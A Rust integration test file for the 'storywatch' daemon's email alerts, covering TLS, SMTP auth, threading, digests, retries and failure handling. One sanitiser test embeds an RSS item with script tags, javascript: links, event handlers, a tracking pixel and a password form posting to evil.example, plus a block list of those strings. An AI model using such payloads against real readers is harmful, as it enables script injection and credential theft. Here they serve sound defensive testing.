//! Email alerts against a real SMTP server (aiosmtpd on 127.0.0.1): TLS
//! (STARTTLS, implicit) with a certificate made here, AUTH, threading
//! headers, multipart bodies, sanitised HTML, retries while the server is
//! down, and 5xx refusals that go straight to dead.

use crate::common;

use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use common::smtp::{free_port, Options, SmtpServer, TestCert, Tls};
use common::{nk_config, rss, FeedServer, NK_V1, NK_V2, T0, UNRELATED};
use storywatch::app::App;
use storywatch::cli::test_notify::test_alert;
use storywatch::clock::ManualClock;
use storywatch::config::Config;
use storywatch::daemon;
use storywatch::notify::Notifier;
use storywatch::outbox::DeliveryState;

const WAIT: Duration = Duration::from_secs(10);

/// A config with one feed, the NK watch and one email notifier "mail"
/// whose extra keys are `notifier`.
fn config(dir: &Path, feed: &str, notifier: &str) -> Config {
    let mail = format!(
        "[[notifier]]\nname = \"mail\"\ntype = \"email\"\nfrom = \"storywatch <alerts@example.com>\"\nto = [\"reader@example.org\"]\n{notifier}"
    );
    nk_config(&dir.join("state"), feed, &mail)
}

fn open(cfg: Config, clock: &Arc<ManualClock>) -> Arc<App> {
    Arc::new(App::open(cfg, clock.clone()).unwrap())
}

fn password_file(dir: &Path, pw: &str) -> String {
    let p = dir.join("smtp-password");
    std::fs::write(&p, format!("{pw}\n")).unwrap();
    p.display().to_string()
}

#[tokio::test]
async fn starttls_auth_threaded_multipart_alerts() {
    let dir = tempfile::tempdir().unwrap();
    let cert = TestCert::generate(dir.path());
    let opts = Options {
        tls: Tls::Starttls,
        auth: Some(("alerts".into(), "s3cret pass".into())),
        ..Options::default()
    };
    let smtp = SmtpServer::start(&dir.path().join("mail"), &opts, Some(&cert));
    let feeds = FeedServer::start().await;
    let notifier = format!(
        "smtp = \"smtp://alerts@127.0.0.1:{}\"\npassword_file = \"{}\"\ntls_ca_file = \"{}\"\nsubject_prefix = \"[news] \"",
        smtp.port,
        password_file(dir.path(), "s3cret pass"),
        cert.cert.display()
    );
    let clock = Arc::new(ManualClock::new(T0));
    let app = open(config(dir.path(), &feeds.url(), &notifier), &clock);

    feeds.set("application/rss+xml", rss(&[UNRELATED]));
    daemon::once(&app).await.unwrap();
    clock.advance(600_000);
    feeds.set("application/rss+xml", rss(&[NK_V1, UNRELATED]));
    let s = daemon::once(&app).await.unwrap();
    assert_eq!((s.alerts, s.delivered), (1, 1), "{s:?}");
    clock.advance(600_000);
    feeds.set("application/rss+xml", rss(&[NK_V2, UNRELATED]));
    let s = daemon::once(&app).await.unwrap();
    assert_eq!((s.alerts, s.delivered), (1, 1), "{s:?}");

    let mails = smtp.wait_for(2, WAIT).await;
    assert_eq!(mails.len(), 2);
    let (new, upd) = (&mails[0], &mails[1]);
    assert_eq!(
        new.peer(),
        upd.peer(),
        "the connection is kept for the next mail"
    );
    for m in [new, upd] {
        assert!(m.tls(), "sent over STARTTLS");
        assert_eq!(m.auth_user().as_deref(), Some("alerts"), "authenticated");
        assert_eq!(m.rcpt_tos(), vec!["reader@example.org".to_string()]);
        assert_eq!(m.content_types(), vec!["text/plain", "text/html"]);
        assert!(m
            .header("content-type")
            .unwrap()
            .starts_with("multipart/alternative"));
        assert_eq!(
            m.header("auto-submitted").as_deref(),
            Some("auto-generated")
        );
        assert!(
            m.header("list-id")
                .unwrap()
                .ends_with("<mail.storywatch.example.com>"),
            "{:?}",
            m.header("list-id")
        );
        assert_eq!(
            m.header("from").as_deref(),
            Some("storywatch <alerts@example.com>")
        );
    }
    assert_eq!(
        new.subject(),
        "[news] New: North Korean troops seen near front"
    );
    assert!(
        upd.subject()
            .starts_with("[news] Updated: North Korean troops seen near front ("),
        "{}",
        upd.subject()
    );
    assert!(
        upd.subject().contains("a number changed"),
        "{}",
        upd.subject()
    );

    // threading: the first alert is the story's root, the update replies
    // to it with a message id of its own, stable per alert
    let story = new.header("x-storywatch-story").unwrap();
    let root = format!("<story.{story}@example.com>");
    assert_eq!(new.header("message-id").as_deref(), Some(root.as_str()));
    assert_eq!(new.header("in-reply-to"), None);
    assert_eq!(upd.header("in-reply-to").as_deref(), Some(root.as_str()));
    assert_eq!(upd.header("references").as_deref(), Some(root.as_str()));
    let key = upd.header("x-storywatch-alert").unwrap();
    assert_eq!(
        upd.header("message-id").unwrap(),
        format!("<{key}@example.com>")
    );

    // the update shows what changed, in both parts
    let text = upd.text();
    assert!(text.contains("[-3,000-]{+5,000+}"), "{text}");
    assert!(text.contains("watch: nk"), "{text}");
    let html = upd.html();
    assert!(
        html.contains("<del") && html.contains("3,000</del>") && html.contains("5,000</ins>"),
        "{html}"
    );
    assert!(html.contains("<mark>North Korean</mark>"), "{html}");
    assert!(html.contains("href=\"http://example.com/nk\""), "{html}");
    println!(
        "---- rendered email (text part) ----\nSubject: {}\n\n{text}\n----",
        upd.subject()
    );
}

#[tokio::test]
async fn feed_markup_never_reaches_the_mail() {
    let dir = tempfile::tempdir().unwrap();
    let smtp = SmtpServer::start(&dir.path().join("mail"), &Options::default(), None);
    let feeds = FeedServer::start().await;
    let notifier = format!("smtp = \"smtp+plain://127.0.0.1:{}\"", smtp.port);
    let clock = Arc::new(ManualClock::new(T0));
    let mut cfg = config(dir.path(), &feeds.url(), &notifier);
    cfg.daemon.baseline = false;
    let app = open(cfg, &clock);
    let evil = r#"<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>T</title><link>http://example.com/</link><description>t</description>
<item><guid isPermaLink="false">evil-1</guid><link>javascript:alert(4)</link>
<title>North Korean troops &lt;script&gt;alert(0)&lt;/script&gt; spotted near Курск, says Pjöngjang</title>
<description><![CDATA[<p>North Korean troops <script>alert(1)</script>moved.
<img src="http://tracker.example/pixel.gif?u=1" width="1" height="1" onerror="alert(2)">
<a href="javascript:alert(3)">details</a> <a href="http://example.com/ok" onclick="steal()">more</a>
<form action="http://evil.example/login"><input name="password"></form>
<iframe src="http://evil.example/frame"></iframe><style>body{display:none}</style></p>]]></description></item>
</channel></rss>"#;
    feeds.set("application/rss+xml", evil);
    let s = daemon::once(&app).await.unwrap();
    assert_eq!((s.alerts, s.delivered), (1, 1), "{s:?}");
    let mails = smtp.wait_for(1, WAIT).await;
    let m = &mails[0];
    let html = m.html();
    let text = m.text();
    // A "plain" title that carries HTML tags is taken as HTML (like
    // feedparser does), so its `<script>` is dropped, not shown. Everything
    // the description had as markup is gone from both parts.
    assert!(html.contains("spotted near Курск"), "{html}");
    assert!(
        !html.contains("alert(0)") && !text.contains("alert(0)"),
        "{html}\n{text}"
    );
    let markup_free_text = text.clone();
    for (what, part) in [("html", &html), ("text", &markup_free_text)] {
        let lower = part.to_lowercase();
        for bad in [
            "<script",
            "onerror",
            "onclick",
            "<img",
            "tracker.example",
            "javascript:",
            "<form",
            "<input",
            "<iframe",
            "evil.example",
            "<style",
        ] {
            assert!(
                !lower.contains(bad),
                "{bad} reached the {what} part:\n{part}"
            );
        }
    }
    let raw = m.raw().to_lowercase();
    assert!(!raw.contains("javascript:"), "raw message: {raw}");
    // the story itself is still there, escaped
    assert!(html.contains("North Korean"), "{html}");
    // non-ASCII survives the trip (RFC 2047 subject, UTF-8 bodies)
    assert!(
        m.subject().ends_with("spotted near Курск, says Pjöngjang"),
        "{}",
        m.subject()
    );
    assert!(text.contains("near Курск, says Pjöngjang"), "{text}");
}

/// A plain-SMTP notifier on a free port (no server yet) and a feed that
/// serves one unrelated story: the baseline.
async fn plain_smtp_rig() -> (
    tempfile::TempDir,
    u16,
    FeedServer,
    Arc<ManualClock>,
    Arc<App>,
) {
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let feeds = FeedServer::start().await;
    let notifier = format!("smtp = \"smtp+plain://127.0.0.1:{port}\"");
    let clock = Arc::new(ManualClock::new(T0));
    let app = open(config(dir.path(), &feeds.url(), &notifier), &clock);
    feeds.set("application/rss+xml", rss(&[UNRELATED]));
    (dir, port, feeds, clock, app)
}

#[tokio::test]
async fn smtp_server_down_then_up_is_retried_and_sent_once() {
    let (dir, port, feeds, clock, app) = plain_smtp_rig().await;
    daemon::once(&app).await.unwrap();
    clock.advance(600_000);
    feeds.set("application/rss+xml", rss(&[NK_V1, UNRELATED]));
    let s = daemon::once(&app).await.unwrap();
    assert_eq!((s.alerts, s.delivered, s.undelivered), (1, 0, 1), "{s:?}");
    let d: Vec<_> = app.store.deliveries().map(Result::unwrap).collect();
    assert_eq!(d[0].state, DeliveryState::Failed);
    assert!(d[0].next_attempt >= clock_now(&clock) + 48_000, "{d:?}");
    let err = d[0].last_error.clone().unwrap();
    assert!(err.contains(&format!("127.0.0.1:{port}")), "{err}");

    let smtp = SmtpServer::start_on(port, &dir.path().join("mail"), &Options::default(), None);
    // not before its backoff is over
    clock.advance(10_000);
    let s = daemon::once(&app).await.unwrap();
    assert_eq!(s.delivered, 0);
    assert!(smtp.messages().is_empty());
    clock.advance(120_000);
    let s = daemon::once(&app).await.unwrap();
    assert_eq!(s.delivered, 1, "{s:?}");
    let d: Vec<_> = app.store.deliveries().map(Result::unwrap).collect();
    assert_eq!((d[0].state, d[0].attempts), (DeliveryState::Delivered, 2));
    clock.advance(3_600_000);
    daemon::once(&app).await.unwrap();
    assert_eq!(smtp.wait_for(1, WAIT).await.len(), 1);
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(smtp.messages().len(), 1, "sent exactly once");
}

/// The server goes away between two mails (a restart, an idle timeout):
/// the kept connection is found dead and the next mail goes on a new one.
#[tokio::test]
async fn a_dropped_smtp_connection_is_reopened() {
    let (dir, port, feeds, clock, app) = plain_smtp_rig().await;
    let mail_dir = dir.path().join("mail");
    let smtp = SmtpServer::start_on(port, &mail_dir, &Options::default(), None);
    daemon::once(&app).await.unwrap();
    clock.advance(600_000);
    feeds.set("application/rss+xml", rss(&[NK_V1, UNRELATED]));
    assert_eq!(daemon::once(&app).await.unwrap().delivered, 1);
    drop(smtp);
    let smtp = SmtpServer::start_on(port, &mail_dir, &Options::default(), None);
    clock.advance(600_000);
    feeds.set("application/rss+xml", rss(&[NK_V2, UNRELATED]));
    let s = daemon::once(&app).await.unwrap();
    assert_eq!((s.delivered, s.undelivered), (1, 0), "{s:?}");
    let mails = smtp.wait_for(2, WAIT).await;
    assert_ne!(mails[0].peer(), mails[1].peer(), "a new connection");
}

fn clock_now(c: &ManualClock) -> i64 {
    storywatch::clock::Clock::now(c)
}

#[tokio::test]
async fn smtp_550_is_dead_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let opts = Options {
        reject_rcpt: true,
        ..Options::default()
    };
    let smtp = SmtpServer::start(&dir.path().join("mail"), &opts, None);
    let feeds = FeedServer::start().await;
    let notifier = format!("smtp = \"smtp+plain://127.0.0.1:{}\"", smtp.port);
    let clock = Arc::new(ManualClock::new(T0));
    let app = open(config(dir.path(), &feeds.url(), &notifier), &clock);
    feeds.set("application/rss+xml", rss(&[UNRELATED]));
    daemon::once(&app).await.unwrap();
    feeds.set("application/rss+xml", rss(&[NK_V1, UNRELATED]));
    let s = daemon::once(&app).await.unwrap();
    assert_eq!((s.alerts, s.delivered, s.dead), (1, 0, 1), "{s:?}");
    let d: Vec<_> = app.store.deliveries().map(Result::unwrap).collect();
    assert_eq!((d[0].state, d[0].attempts), (DeliveryState::Dead, 1));
    let err = d[0].last_error.clone().unwrap();
    assert!(err.contains("550") && err.contains("permanent"), "{err}");
    clock.advance(24 * 3_600_000);
    daemon::once(&app).await.unwrap();
    let d: Vec<_> = app.store.deliveries().map(Result::unwrap).collect();
    assert_eq!(d[0].attempts, 1, "dead alerts are not retried");
    assert!(smtp.messages().is_empty());
}

#[tokio::test]
async fn digest_is_one_mail_grouped_by_story() {
    let dir = tempfile::tempdir().unwrap();
    let smtp = SmtpServer::start(&dir.path().join("mail"), &Options::default(), None);
    let feeds = FeedServer::start().await;
    let notifier = format!(
        "smtp = \"smtp+plain://127.0.0.1:{}\"\ndigest = \"30m\"",
        smtp.port
    );
    let clock = Arc::new(ManualClock::new(T0));
    let app = open(config(dir.path(), &feeds.url(), &notifier), &clock);
    let a1 = (
        "a",
        "North Korean troops reach Kursk",
        "Troops arrived on Monday.",
    );
    let a2 = (
        "a",
        "North Korean troops reach Kursk",
        "Troops arrived on Monday. More followed on Tuesday.",
    );
    let b1 = (
        "b",
        "North Korean soldiers captured",
        "Two soldiers were captured.",
    );
    feeds.set("application/rss+xml", rss(&[UNRELATED]));
    daemon::once(&app).await.unwrap();
    clock.advance(60_000);
    feeds.set("application/rss+xml", rss(&[a1, UNRELATED]));
    daemon::once(&app).await.unwrap();
    clock.advance(60_000);
    feeds.set("application/rss+xml", rss(&[b1, a1, UNRELATED]));
    daemon::once(&app).await.unwrap();
    clock.advance(60_000);
    feeds.set("application/rss+xml", rss(&[b1, a2, UNRELATED]));
    let s = daemon::once(&app).await.unwrap();
    assert_eq!((s.delivered, s.undelivered), (0, 3), "held for the digest");
    assert!(smtp.messages().is_empty());
    clock.advance(30 * 60_000);
    let s = daemon::once(&app).await.unwrap();
    assert_eq!(s.delivered, 3, "{s:?}");
    let mails = smtp.wait_for(1, WAIT).await;
    assert_eq!(mails.len(), 1, "one message for the whole window");
    let m = &mails[0];
    assert_eq!(m.subject(), "storywatch digest: 3 alerts about 2 stories");
    let text = m.text();
    // story a's two alerts are together, before story b
    let a_new = text.find("New: North Korean troops reach Kursk").unwrap();
    let a_upd = text
        .find("Updated: North Korean troops reach Kursk")
        .unwrap();
    let b_new = text.find("New: North Korean soldiers captured").unwrap();
    assert!(a_new < a_upd && a_upd < b_new, "{text}");
    assert!(
        text.contains("■ North Korean troops reach Kursk (2 alerts)"),
        "{text}"
    );
    assert!(
        m.html().contains("soldiers</mark> captured"),
        "{}",
        m.html()
    );
    assert!(m.header("message-id").unwrap().starts_with("<digest."));
}

/// The CLI's test alert through implicit TLS (smtps), with the password
/// from an environment variable; and the exit code when it fails.
#[tokio::test]
async fn test_notify_over_implicit_tls_and_its_failure_exit() {
    let dir = tempfile::tempdir().unwrap();
    let cert = TestCert::generate(dir.path());
    let opts = Options {
        tls: Tls::Implicit,
        auth: Some(("ops".into(), "pw-from-env".into())),
        ..Options::default()
    };
    let smtp = SmtpServer::start(&dir.path().join("mail"), &opts, Some(&cert));
    let write = |port: u16| {
        let path = dir.path().join(format!("config-{port}.toml"));
        let text = format!(
            "[daemon]\nstate_dir = \"{}\"\n[[feed]]\nname = \"f\"\nurl = \"http://127.0.0.1:9/feed\"\n[[notifier]]\nname = \"mail\"\ntype = \"email\"\nsmtp = \"smtps://ops@127.0.0.1:{port}\"\npassword_env = \"STORYWATCH_TEST_SMTP_PW\"\ntls_ca_file = \"{}\"\nfrom = \"alerts@example.com\"\nto = [\"me@example.org\"]\n",
            dir.path().join("state").display(),
            cert.cert.display()
        );
        std::fs::write(&path, text).unwrap();
        path
    };
    let run = |config: &Path| {
        Command::new(env!("CARGO_BIN_EXE_storywatch"))
            .args(["test-notify", "mail", "--config"])
            .arg(config)
            .env("STORYWATCH_TEST_SMTP_PW", "pw-from-env")
            .output()
            .unwrap()
    };
    let ok = run(&write(smtp.port));
    let out = String::from_utf8_lossy(&ok.stdout);
    assert!(
        ok.status.success(),
        "{out}{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(out.contains("sent a test alert"), "{out}");
    assert!(!out.contains("pw-from-env"), "no secret in the output");
    let mails = smtp.wait_for(1, WAIT).await;
    assert!(mails[0].tls());
    assert_eq!(mails[0].auth_user().as_deref(), Some("ops"));
    assert!(mails[0]
        .subject()
        .starts_with("Updated: Storm makes landfall"));
    assert!(mails[0].text().contains("[-3,000-]{+12,000+}"));

    let dead_port = free_port();
    let failed = run(&write(dead_port));
    assert_eq!(failed.status.code(), Some(1));
    let err = String::from_utf8_lossy(&failed.stderr);
    assert!(
        err.contains("test alert failed") && err.contains(&format!("127.0.0.1:{dead_port}")),
        "{err}"
    );
}

/// TLS is verified: without the test CA the same server is refused, and
/// the error says where to look.
#[tokio::test]
async fn starttls_refuses_an_untrusted_certificate() {
    let dir = tempfile::tempdir().unwrap();
    let cert = TestCert::generate(dir.path());
    let opts = Options {
        tls: Tls::Starttls,
        ..Options::default()
    };
    let smtp = SmtpServer::start(&dir.path().join("mail"), &opts, Some(&cert));
    let cfg = config(
        dir.path(),
        "http://127.0.0.1:9/feed",
        &format!("smtp = \"smtp://127.0.0.1:{}\"", smtp.port),
    );
    let n = Notifier::build(&cfg.notifiers[0], "test").unwrap();
    let err = n.send(&[test_alert("mail", T0)]).await.unwrap_err();
    assert!(!err.permanent, "a TLS failure may be fixed: retried");
    assert!(err.message.contains("tls_ca_file"), "{}", err.message);
    assert!(smtp.messages().is_empty());
}
